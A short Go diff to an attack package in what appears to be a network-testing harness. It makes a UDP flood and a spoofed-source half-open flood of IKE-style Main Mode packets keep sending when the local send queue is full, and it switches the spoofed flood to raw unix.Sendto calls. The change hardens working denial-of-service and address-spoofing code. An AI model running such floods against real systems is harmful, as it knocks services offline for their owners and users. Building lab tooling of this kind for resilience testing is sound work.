@@ -10,6 +10,8 @@ import (
 	"sync/atomic"
 	"time"
 
+	"golang.org/x/sys/unix"
+
 	"github.com/getlab/getlab/harness/nsdo"
 )
 
@@ -190,6 +192,9 @@ func flood(ctx context.Context, conn *net.UDPConn, to netip.AddrPort, n int, d t
 			break
 		}
 		if _, err := conn.WriteToUDPAddrPort(MainMode1(RandomCookie(), p), to); err != nil {
+			if errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
+				continue // the attacker's own queue is full: a flood goes on
+			}
 			sendErr = fmt.Errorf("attack: flood send: %w", err)
 			break
 		}
@@ -237,10 +242,15 @@ func SpoofedHalfOpen(ctx context.Context, fd int, srcs []netip.Addr, to netip.Ad
 			return sent, err
 		}
 		pkt := UDPPacket(srcs[i%len(srcs)], to.Addr(), 848, to.Port(), uint16(i), MainMode1(RandomCookie(), p))
-		if _, err := SendRaw(ctx, fd, []Case{{Name: "spoofed message 1", Bytes: pkt}}, 0); err != nil {
-			return sent, err
+		err := unix.Sendto(fd, pkt, 0, &unix.SockaddrInet4{Addr: to.Addr().As4()})
+		switch {
+		case err == nil:
+			sent++
+		case errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN):
+			// The attacker's own queue is full: a flood goes on.
+		default:
+			return sent, fmt.Errorf("attack: spoofed flood send: %w", err)
 		}
-		sent++
 	}
 	return sent, nil
 }
